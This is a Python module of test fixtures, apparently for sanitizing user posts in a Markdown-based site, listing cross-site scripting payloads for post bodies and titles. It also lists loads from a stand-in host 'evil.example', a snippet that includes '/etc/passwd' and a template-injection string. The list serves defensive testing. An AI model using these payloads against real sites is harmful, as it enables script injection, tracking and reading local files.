"""Hostile inputs a post may carry. Each tries to run script, call another host, or break the layout.

``window.__pwned`` and ``alert`` are what a successful payload would reach; ``evil.example`` is the
outside host it would call.
"""

BODY_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>window.__pwned=1</sCrIpT>",
    "<script\n>window.__pwned=1</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<svg onload=alert(1)>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<a href="javascript:alert(1)">clic</a>',
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](javascript&#58;alert(1))",
    "[clic](&#x6A;avascript:alert(1))",
    "[clic](<javascript:alert(1)>)",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](vbscript:msgbox(1))",
    "![x](https://evil.example/img.png)",
    "![x](javascript:alert(1))",
    '<div style="background:url(https://evil.example/bg.png)">fond</div>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="https://evil.example"><button>Envoyer</button></form>',
    '<object data="https://evil.example/x"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '[lien](https://example.org){: onclick="alert(1)" }',
    '*emphase*{: .x onmouseover="window.__pwned=1" }',
    '--8<-- "/etc/passwd"',
    "{{ config.site_name }} {% include 'home.html' %}",
    "<!-- commentaire --><script>alert(1)</script>",
    "</div></div></article></main><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://evil.example" onmouseover="window.__pwned=1">survol</a>',
    "```html\n<script>alert(1)</script>\n```",
]

TITLE_PAYLOADS = [
    "<script>alert(1)</script> un titre",
    '"><img src=x onerror=alert(1)> titre',
    "</title><script>window.__pwned=1</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; échappé",
]
